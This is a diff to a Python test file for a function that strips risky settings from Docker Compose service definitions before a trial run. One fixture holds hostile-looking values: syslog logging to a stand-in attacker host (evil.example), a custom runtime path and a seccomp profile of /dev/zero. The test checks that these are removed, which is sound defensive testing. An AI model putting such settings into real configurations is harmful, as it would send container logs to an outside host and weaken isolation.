@@ -638,6 +638,9 @@ def test_a_service_is_tried_with_what_it_asks_of_the_machine_alone():
         "ports": [{"target": 80}],
         "user": "me",
         "cpuset": "0-15",
+        "restart": "on-failure:-3",
+        "security_opt": ["no-new-privilege"],
+        "logging": {"driver": "local", "options": {"max-sise": "1m"}},
         "deploy": {"replicas": 9, "resources": {"limits": {"cpus": "64"}}},
         "environment": {"TOKEN": "secret", "NVIDIA_VISIBLE_DEVICES": "all"},
         "volumes": [{**bind, "bind": {"create_host_path": True}}, bind],
@@ -645,6 +648,9 @@ def test_a_service_is_tried_with_what_it_asks_of_the_machine_alone():
     found = rehearse({"services": {"a": service, "b": {"image": "y"}}})[0]["services"]["a"]
     assert found == {
         "cpuset": "0-15",
+        "restart": "on-failure:-3",
+        "security_opt": ["no-new-privilege"],
+        "logging": {"driver": "local", "options": {"max-sise": "1m"}},
         "deploy": {"resources": {"limits": {"cpus": "64"}}},
         "volumes": [{**bind, "read_only": True, "bind": {"create_host_path": False}}],
         "environment": {"NVIDIA_VISIBLE_DEVICES": "all"},
@@ -666,10 +672,11 @@ def test_what_a_stranger_could_run_read_or_change_by_a_trial_is_left_out(tmp_pat
         "runtime": "/work/project/shim",
         "logging": {"driver": "syslog", "options": {"syslog-address": "tcp://evil.example:1"}},
         "security_opt": ["seccomp=/dev/zero"],
+        "restart": "unless-stopped",
         "volumes": [bind],
     }
     found = rehearse({"services": {"a": service}})[0]["services"]["a"]
-    assert not found.keys() & {"runtime", "logging", "security_opt"}
+    assert not found.keys() & {"runtime", "logging", "security_opt", "restart"}
     assert found["volumes"] == [
         {"type": "bind", "source": "/home", "target": "/h", "read_only": True, "bind": {"create_host_path": False}}
     ]
